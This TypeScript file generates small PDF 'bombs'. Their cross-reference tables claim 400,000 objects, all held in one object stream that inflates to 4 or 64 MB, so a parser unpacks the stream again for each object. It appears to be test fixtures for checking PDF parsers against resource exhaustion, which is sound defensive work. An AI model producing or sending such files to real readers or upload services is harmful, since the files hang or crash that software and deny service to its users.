import { deflateSync } from "node:zlib";

/** PDFs of a few kilobytes whose object streams (ISO 32000-1 §7.5.7) expand without end. Their catalogue is valid. */

const MEGABYTE = 1024 * 1024;

/** Number of objects that the table claims. */
const CLAIMED = 400_000;

/** Hundreds of thousands of objects that all claim to be in one stream, which has to be unpacked for each. */
export function sharedStreamBomb(): Buffer {
  const content = `9 0 ${" ".repeat(4 * MEGABYTE)}null`;
  return bombOf(deflateSync(content), "/FlateDecode", content.length - 4);
}

/** The same, where the stream is compressed twice and holds 64 MB. */
export function packedTwiceBomb(): Buffer {
  const content = `9 0 ${" ".repeat(64 * MEGABYTE)}null`;
  return bombOf(deflateSync(deflateSync(content)), "[/FlateDecode/FlateDecode]", content.length - 4);
}

function bombOf(packed: Buffer, filter: string, first: number): Buffer {
  const objects: [dictionary: string, data?: Buffer][] = [
    ["/Type/Catalog/Pages 2 0 R"],
    ["/Type/Pages/Count 1/Kids[3 0 R]"],
    ["/Type/Page/Parent 2 0 R/MediaBox[0 0 420 595]"],
    [`/Type/ObjStm/N 1/First ${first}/Filter ${filter}/Length ${packed.length}`, packed],
  ];
  const parts: Buffer[] = [Buffer.from("%PDF-1.7\n")];
  const offsets = objects.map(([dictionary, data], index) => {
    const offset = Buffer.concat(parts).length;
    parts.push(objectOf(index + 1, dictionary, data));
    return offset;
  });
  const table = Buffer.concat(parts).length;
  parts.push(tableOf([...offsets, table]), Buffer.from(`startxref\n${table}\n%%EOF\n`));
  return Buffer.concat(parts);
}

/** The table: the objects at their places, then the claimed ones, all in the stream with number 4. */
function tableOf(offsets: readonly number[]): Buffer {
  const rows = Buffer.alloc((CLAIMED + 1) * 4);
  for (let number = 1; number <= CLAIMED; number += 1) {
    const offset = offsets[number - 1];
    rows.writeUInt8(offset === undefined ? 2 : 1, number * 4);
    rows.writeUInt16BE(offset ?? 4, number * 4 + 1);
  }
  const data = deflateSync(rows);
  const dictionary = `/Type/XRef/W[1 2 1]/Size ${CLAIMED + 1}/Root 1 0 R/Filter/FlateDecode/Length ${data.length}`;
  return objectOf(offsets.length, dictionary, data);
}

function objectOf(number: number, dictionary: string, data?: Buffer): Buffer {
  const start = `${number} 0 obj\n<<${dictionary}>>\n`;
  if (!data) return Buffer.from(`${start}endobj\n`);
  return Buffer.concat([Buffer.from(`${start}stream\n`), data, Buffer.from("\nendstream\nendobj\n")]);
}
